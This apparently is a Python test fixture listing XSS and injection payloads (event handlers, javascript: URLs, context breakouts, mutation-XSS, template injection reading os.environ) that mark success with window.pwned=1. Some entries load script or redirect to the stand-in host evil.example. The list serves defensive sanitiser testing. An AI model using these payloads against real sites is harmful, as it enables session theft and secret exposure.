"""Texts that would run a script if a page treated them as HTML. The elements that they create have `id=pwned`."""

from __future__ import annotations

RUN = "window.pwned=1"

PAYLOADS: tuple[str, ...] = (
    f"<script id=pwned>{RUN}</script>",
    f"<img id=pwned src=x onerror={RUN}>",
    f"<svg id=pwned onload={RUN}>",
    f"<svg id=pwned><script>{RUN}</script></svg>",
    f"<body id=pwned onload={RUN}>",
    f"<input id=pwned autofocus onfocus={RUN}>",
    f"<details id=pwned open ontoggle={RUN}>",
    f"<video id=pwned><source onerror={RUN}></video>",
    f"<audio id=pwned src=x onerror={RUN}>",
    "<iframe id=pwned srcdoc='<script>parent.pwned=1</script>'></iframe>",
    f"<iframe id=pwned src=javascript:{RUN}></iframe>",
    f"<a id=pwned href=javascript:{RUN}>x</a>",
    f"<object id=pwned data=javascript:{RUN}>",
    f"<embed id=pwned src=javascript:{RUN}>",
    f"<form id=pwned action=javascript:{RUN}><button>x</button></form>",
    f"<marquee id=pwned onstart={RUN}>",
    f"<div id=pwned style='animation:x' onanimationstart={RUN}>",
    "<style id=pwned>@import'//evil.example/x.css'</style>",
    "<link id=pwned rel=stylesheet href=//evil.example/x.css>",
    "<meta id=pwned http-equiv=refresh content='0;url=//evil.example'>",
    "<base id=pwned href=//evil.example/>",
    "<img id=pwned src=//evil.example/x>",
    "<script id=pwned src=//evil.example/x.js></script>",
    f"\"><img id=pwned src=x onerror={RUN}>",
    f"'><img id=pwned src=x onerror={RUN}>",
    f"</pre></textarea></title><img id=pwned src=x onerror={RUN}>",
    f"</script><script id=pwned>{RUN}</script>",
    f"--><img id=pwned src=x onerror={RUN}>",
    f"]]><img id=pwned src=x onerror={RUN}>",
    f"{{{{constructor.constructor('{RUN}')()}}}}",
    "{{ cycler.__init__.__globals__.os.environ }}",
    f"${{{RUN}}}",
    f"\" onmouseover={RUN} id=pwned x=\"",
    f"<math id=pwned><mtext></form><form><mglyph><style></math><img src onerror={RUN}>",
    f"<template id=pwned><img src=x onerror={RUN}></template>",
    f"&lt;img id=pwned src=x onerror={RUN}&gt;",
)  # fmt: skip
